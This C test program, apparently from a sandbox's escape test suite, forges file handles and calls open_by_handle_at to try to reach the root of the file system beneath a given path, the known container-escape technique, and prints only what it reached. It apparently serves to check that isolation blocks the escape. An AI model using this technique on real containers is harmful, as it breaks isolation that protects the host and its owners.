/* SPDX-License-Identifier: Apache-2.0 */
/* tests/escape/payload/handles.c - reach the root of PATH's file system by file handle; prints what it saw there
 *
 * usage: handles PATH */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void show(const char *what, int fd)
{
	struct stat st;

	if (fd < 0)
		printf("%s %s\n", what, strerrorname_np(errno));
	else if (fstat(fd, &st) == 0)
		printf("%s ok inode %llu\n", what, (unsigned long long)st.st_ino);
}

int main(int argc, char **argv)
{
	struct file_handle *h = calloc(1, sizeof(*h) + MAX_HANDLE_SZ);
	int mount_id, mount_fd, fd;

	if (argc != 2 || !h)
		return 2;
	mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
	h->handle_bytes = MAX_HANDLE_SZ;
	fd = name_to_handle_at(mount_fd, ".", h, &mount_id, 0);
	printf("name_to_handle_at %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	if (fd < 0) { /* forge one: type 1, inode and generation */
		h->handle_bytes = 8;
		h->handle_type = 1;
	}
	fd = open_by_handle_at(mount_fd, h, O_RDONLY);
	show("open_by_handle_at", fd);
	/* inode 2, generation 0: the root of ext4 and others, whatever was mounted of it */
	h->handle_bytes = 8;
	h->handle_type = 1;
	memset(h->f_handle, 0, 8);
	h->f_handle[0] = 2;
	fd = open_by_handle_at(mount_fd, h, O_RDONLY | O_DIRECTORY);
	show("root", fd);
	return 0;
}
